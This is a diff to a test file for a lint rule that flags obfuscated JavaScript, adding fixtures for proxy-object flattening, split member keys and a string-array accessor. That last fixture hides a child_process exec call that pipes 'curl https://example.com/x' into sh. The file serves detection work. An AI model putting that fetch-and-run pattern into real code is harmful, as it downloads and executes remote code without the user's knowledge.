@@ -32,8 +32,28 @@ const JJENCODE =
 
 const PACKED = "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0(1)',2,2,'alert|document'.split('|'),0,{}));";
 
+/** Control-flow flattening's proxy objects, without a string array. */
+const PROXIES = `function f(a, b, c) {
+  const e = { 'nZRIp': function (h, i) { return h + i; }, 'bDpQZ': function (h, i) { return h * i; }, 'XmDDx': function (h, i, j) { return h(i, j); }, 'vZzOi': function (h, i) { return h - i; } };
+  const g = { 'TxWpA': function (h, i) { return h + i; }, 'CGRzu': function (h, i) { return h < i; } };
+  console['log'](e['nZRIp'](a, b), g['TxWpA'](a, c), g['CGRzu'](b, c), e['vZzOi'](c, a), a['length'], b['length'], c['name']);
+  return e['XmDDx'](c, e['nZRIp'](a, b), e['bDpQZ'](a, b));
+}`;
+
+/** String splitting applied to member keys. */
+const SPLIT_KEYS = `let p = process || {};
+const argv = p['arg' + 'v'], env = p['en' + 'v'], platform = p['pla' + 'tfo' + 'rm'], out = p['std' + 'out'];
+const a = argv['inc' + 'lud' + 'es']('--c' + 'olo' + 'r'), b = env['FOR' + 'CE_' + 'COL' + 'OR'], c = out['isT' + 'TY'];
+const d = env['NO_' + 'COL' + 'OR'], e = env['TER' + 'M'], f = env['C' + 'I'], g = argv['len' + 'gth'], h = p['ve' + 'rsion'];
+const i = p['pl' + 'atf' + 'orm'], j = env['HO' + 'ME'], k = env['SH' + 'ELL'], l = env['US' + 'ER'], m = p['ex' + 'it'];
+console['lo' + 'g']('--n' + 'o-c' + 'olo' + 'r', '\\x1b' + '[0m', 'dum' + 'b', 'win' + '32');`;
+
 ruleTester(rule, {
   valid: [
+    // An operator table with word keys is not control-flow flattening.
+    'const ops = { plus: function (a, b) { return a + b; }, minus: function (a, b) { return a - b; }, times: function (a, b) { return a * b; }, apply: function (f, a) { return f(a); } };',
+    // Long strings broken over lines, and an offset computed in decimal.
+    "const msg = 'The quick brown fox ' + 'jumps over the lazy dog';\nfunction at(i) { i = i - 1; return list[i]; }",
     // Real minified bundles are not obfuscated.
     { code: terserBundle, name: 'terser-minified picocolors' },
     { code: esbuildBundle, name: 'esbuild-minified picocolors' },
@@ -72,6 +92,13 @@ ruleTester(rule, {
       name: 'control-flow flattening',
       code: FLATTENED,
       errors: [{ messageId: 'obfuscated', line: 2, column: 17, message: 'control-flow flattening' }],
+    },
+    { name: 'control-flow flattening proxies', code: PROXIES, errors: [{ messageId: 'obfuscated', line: 2, column: 15, message: 'operator and call proxies' }] },
+    { name: 'split member keys', code: SPLIT_KEYS, errors: [{ messageId: 'obfuscated', line: 2, column: 14, message: 'assembled from string fragments' }] },
+    {
+      name: 'string array with an accessor, without rotation',
+      code: "const C = u, cp = require('child_process');\nfunction u(a, Y) { a = a - 0xe3; const C = c(); let N = C[a]; return N; }\nconst url = C(0xe6);\ncp[C(0xe7)](C(0xe4) + url + C(0xe5));\nfunction c() { const N = ['Hello', 'curl ', ' | sh', 'https://example.com/x', 'exec', 'log']; c = function () { return N; }; return c(); }",
+      errors: [{ messageId: 'obfuscated', line: 5, column: 1, message: 'a string-array accessor that subtracts a hex offset' }],
     },
     { name: 'packer', code: PACKED, errors: [{ messageId: 'obfuscated', line: 1, column: 6, message: 'packer' }] },
     { name: 'JSFuck', code: JSFUCK, errors: [{ messageId: 'obfuscated', line: 1, message: 'JSFuck' }] },
